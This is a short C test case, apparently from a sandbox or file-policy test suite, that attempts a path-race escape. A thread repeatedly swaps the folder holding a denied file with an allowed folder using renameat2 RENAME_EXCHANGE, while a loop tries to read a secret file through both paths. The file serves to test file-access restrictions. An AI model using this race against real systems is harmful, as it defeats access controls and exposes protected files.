// escape: exchanges the folder that a denied file is in for another, while the file is opened
// group: path races
// policy: files-deny
// attempts: 20000
// capabilities: CAP_DAC_OVERRIDE
#include "files.h"

static void* swap(void* unused) {
  unsigned seed = 1;
  for (;;) {
    renameat2(AT_FDCWD, "/srv/half", AT_FDCWD, "/srv/open/folder", RENAME_EXCHANGE);
    moment(&seed);
  }
  return unused;
}

static void attack(void) {
  thread(swap, NULL);
  while (more()) {
    try_to_read(in("/srv/half", SECRET).text);
    try_to_read(in("/srv/open/folder", SECRET).text);
  }
}
